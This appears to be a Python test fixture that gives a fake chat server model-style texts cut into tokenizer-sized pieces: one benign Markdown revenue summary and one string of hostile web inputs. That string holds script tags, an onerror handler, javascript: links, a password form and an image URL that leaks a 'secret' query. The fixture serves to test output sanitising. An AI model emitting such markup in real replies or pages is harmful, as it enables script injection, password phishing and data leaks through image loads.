"""What a model may say: texts for the fake server's letter `m`, cut in pieces as a tokenizer would."""

import re

MARKDOWN = """## How the filing describes revenue

Revenue grew by **12 %** in the year, mostly from *subscriptions* [1]. Two points stand out:

1. Renewals rose faster than new contracts [2].
2. Services fell, as the company had said they would [1, 2].

| Segment | 2023 | 2024 |
|:--------|-----:|-----:|
| Subscriptions | 410 | 478 |
| Services | 96 | 81 |

The ratio is easy to check:

```python
def growth(before: float, after: float) -> float:
    # 0.12 means twelve per cent
    return after / before - 1


print(f"{growth(506, 559):.1%}")
```

> A longer note from the filing, quoted.

See [the regulator](https://example.org/filing) for the whole text.

"""

HOSTILE = """<script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 2"> ![a remote image](https://example.org/steal.png?q=secret)

[a link](javascript:window.pwned=3) <a href="javascript:window.pwned=4">another</a> <iframe src="https://example.org"></iframe>

<style>body { display: none }</style> <form action="https://example.org"><input name="password"></form>

Not a source: [99]. In code: `list[1]`.
"""

TEXTS = {1: MARKDOWN, 2: HOSTILE}


def pieces(number: int) -> list[str]:
    """Words with the space before them; every whitespace is kept."""
    return re.findall(r"\s*\S{1,6}|\s+$", TEXTS[number])
